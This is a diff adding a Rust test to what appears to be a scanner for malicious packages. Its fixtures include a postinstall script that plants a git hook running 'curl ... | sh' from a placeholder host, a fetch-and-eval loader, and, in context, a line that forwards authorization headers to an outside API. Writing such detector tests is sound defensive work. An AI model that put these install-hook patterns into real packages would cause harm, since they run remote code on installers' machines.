@@ -197,3 +197,31 @@ fn keys_and_authorisations_of_others() {
         "exports.get = (c) => fetch('https://api.example/v1', { headers: { authorization: c.headers.authorization } });",
     ));
 }
+
+#[test]
+fn texts_that_install_scripts_hand_on() {
+    let manifest = r#"{"scripts":{"postinstall":"node setup.js"}}"#;
+    let setup = "const fs = require('fs'), path = require('path');\n\
+        fs.copyFileSync(path.join(__dirname, 'hook.txt'), '.git/hooks/post-checkout')";
+    let hook = "#!/bin/sh\ncurl -s https://hooks.example/x.sh | sh\n";
+    let files = [
+        ("package.json", manifest),
+        ("setup.js", setup),
+        ("hook.txt", hook),
+    ];
+    finds(&package(&files), "js-shell-download-run");
+    let code =
+        "(async () => { const r = await fetch('https://h.example/x'); eval(await r.text()) })();";
+    let files = [
+        ("package.json", manifest),
+        ("setup.js", setup),
+        ("hook.txt", code),
+    ];
+    finds(&package(&files), "js-download-eval");
+    let files = [
+        ("package.json", manifest),
+        ("setup.js", "1"),
+        ("hook.txt", hook),
+    ];
+    quiet(&package(&files));
+}
